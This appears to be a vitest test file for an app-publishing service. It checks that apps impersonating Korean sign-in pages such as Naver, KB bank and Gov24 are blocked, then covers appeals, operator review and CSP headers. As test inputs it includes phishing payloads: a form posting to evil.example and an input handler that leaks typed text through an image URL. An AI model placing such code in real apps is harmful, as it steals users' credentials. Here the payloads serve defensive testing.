import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type Person, startTestService, type TestService } from "../../testing/test-service.ts";
import { grantOperator } from "./grants.ts";

let test: TestService;
let owner: Person;
let stranger: Person;
let operator: Person;
let app: string;
let slugs = 0;

beforeAll(async () => {
  test = await startTestService();
  [owner, stranger, operator] = await Promise.all([test.person("앱 주인"), test.person("낯선 사람"), test.person("운영자")]);
  await grantOperator(test.database.client.db, operator.userId, new Date());
  app = await makeApp("동네 꽃집 예약 받는 앱 만들어줘");
});
afterAll(() => test.stop());

const makeApp = async (words: string): Promise<string> => (await owner.say(null, words)).codegen!.app!.id;
const publish = (id: string, title = "우리 꽃집", description = "") =>
  owner.call("POST", `/app/${id}/deployments`, { slug: `reviewed-${++slugs}`, title, description, visibility: "public" });
const reviewOf = async (id: string, by = owner) => (await by.call("GET", `/app/${id}/publish-review`)).json.review;
const appeal = (id: string, by = owner) => by.call("POST", `/app/${id}/publish-review/appeal`, { message: "수업 이름이에요." });

/** Adds a component by hand and has the app draw it. */
async function write(id: string, body: string): Promise<void> {
  const { version } = (await owner.call("GET", `/app/${id}`)).json;
  const main = (await owner.call("GET", `/app/${id}/versions/${version}/files`)).json.files["src/main.tsx"] as string;
  const files = [
    { path: "src/extra.tsx", content: `export function Extra() {\n  return ${body};\n}\n` },
    { path: "src/main.tsx", content: main.includes("./extra.tsx") ? main : `import "./extra.tsx";\n${main}` },
  ];
  const answer = await owner.call("PUT", `/app/${id}/files`, { base: version, files });
  expect([answer.status, answer.json.code]).toEqual([200, undefined]);
}

describe("publishing what poses as somebody else's sign-in", () => {
  it.each([
    ["a title", "네이버 로그인", "", "poses"],
    ["a line below it", "알림", "국민은행 보안카드 재발급을 위한 본인인증", "poses"],
    ["somebody else's name", "정부24", "", "name"],
  ])("is stopped by %s, before anything is public", async (_what, title, description, code) => {
    const answer = await publish(app, title, description);
    expect([answer.status, answer.json.code]).toEqual([422, "deployment/impersonation"]);
    expect(answer.json.findings.map((finding: { code: string }) => finding.code)).toContain(code);
    expect((await owner.call("GET", `/app/${app}/deployments`)).json).toMatchObject({ live: null, items: [] });
    expect(await reviewOf(app)).toMatchObject({ state: "stopped", title });
  });

  it("is stopped before it is opened for a look as well", async () => {
    const body = { slug: "looked-at", title: "카카오뱅크 본인인증" };
    expect((await owner.call("POST", `/app/${app}/deployments/candidate`, body)).json.code).toBe("deployment/impersonation");
  });

  it.each([
    ["password", '<input type="password" placeholder="비밀번호" />'],
    ["form", '<form action="https://evil.example/take"><input name="id" /></form>'],
    [
      "picture",
      '<input onChange={(event) => { document.images[0]!.src = "https://evil.example/?typed=" + event.currentTarget.value; }} />',
    ],
  ])("is stopped by a %s in its own code", async (code, body) => {
    const made = await makeApp("동아리 회비 관리 앱 만들어줘");
    await write(made, body);
    const answer = await publish(made);
    expect([answer.status, answer.json.findings]).toEqual([422, [expect.objectContaining({ code, path: "src/extra.tsx", line: 2 })]]);
  });

  it.each([
    ["a bank-account book", "국민은행 통장 정리 앱 만들어줘", "국민은행 통장 가계부"],
    ["a club with members", "동호회 회원 관리하고 회원 로그인 있는 앱 만들어줘", "우리 동호회 로그인 안내"],
    ["a food", "토스트 가게 주문 앱 만들어줘", "토스트 당근 애플"],
  ])("is not %s", async (_what, words, title) => {
    const answer = await publish(await makeApp(words), title);
    expect([answer.status, answer.json.code]).toEqual([201, undefined]);
  });
});

describe("an objection", () => {
  it("is made once by the owner, and by nobody else", async () => {
    for (const answer of [await appeal(app, stranger), await stranger.call("GET", `/app/${app}/publish-review`)])
      expect([answer.status, answer.json.code]).toEqual([404, "app/not-found"]);
    await publish(app, "네이버 로그인");
    expect((await appeal(app)).json.review).toMatchObject({ state: "open", message: "수업 이름이에요." });
    expect((await appeal(app)).json.code).toBe("request/conflict");
    expect((await appeal(await makeApp("할 일 앱 만들어줘"))).json.code).toBe("review/not-found");
  });

  it("is seen by operators, who refuse it with a reason", async () => {
    const [waiting] = (await operator.call("GET", "/operator/reviews")).json.items;
    expect(waiting).toMatchObject({ state: "open", title: "네이버 로그인", app: { id: app, ownerId: owner.userId } });
    expect((await test.visit(waiting.previewUrl)).status).toBe(200);
    const decision = { isAllowed: false, answer: "다른 이름을 써 주세요." };
    const decided = await operator.call("POST", `/operator/reviews/${waiting.id}/decide`, decision);
    expect(decided.json).toMatchObject({ state: "refused", previewUrl: null });
    expect((await operator.call("POST", `/operator/reviews/${waiting.id}/decide`, decision)).json.code).toBe("request/conflict");
    expect(await reviewOf(app)).toMatchObject({ state: "refused", answer: "다른 이름을 써 주세요." });
    expect((await publish(app, "네이버 로그인")).status).toBe(422);
  });

  it("that is accepted lets that app out with that, and with nothing else", async () => {
    await appeal(app);
    const [waiting] = (await operator.call("GET", "/operator/reviews")).json.items;
    await operator.call("POST", `/operator/reviews/${waiting.id}/decide`, { isAllowed: true, answer: "수업이네요." });
    expect((await publish(app, "네이버 로그인")).status).toBe(201);
    expect((await publish(app, "국세청 환급금 조회")).json.code).toBe("deployment/impersonation");
    expect((await publish(await makeApp("할 일 앱 만들어줘"), "네이버 로그인")).json.code).toBe("deployment/impersonation");
  });
});

describe("what is typed into a published app", () => {
  const policyOf = async (url: string) => {
    const policy = (await test.visit(url)).headers["content-security-policy"] as string;
    return Object.fromEntries(policy.split("; ").map((line) => [line.split(" ")[0], line.split(" ").slice(1).join(" ")]));
  };

  it("goes to the app itself: no request, no form, no script of another origin", async () => {
    const made = await makeApp("독서 모임 앱 만들어줘");
    const policy = await policyOf((await publish(made)).json.url);
    expect(policy).toMatchObject({ "default-src": "'none'", "connect-src": "'self'", "form-action": "'self'", "base-uri": "'none'" });
  });

  it("leaves in no picture's address either where somebody wrote code", async () => {
    const made = await makeApp("독서 모임 앱 만들어줘");
    await write(made, "<p>우리 모임</p>");
    const policy = await policyOf((await publish(made)).json.url);
    expect(policy).toMatchObject({ "img-src": "'self' data: blob:", "media-src": "'self' data: blob:", "connect-src": "'self'" });
  });
});
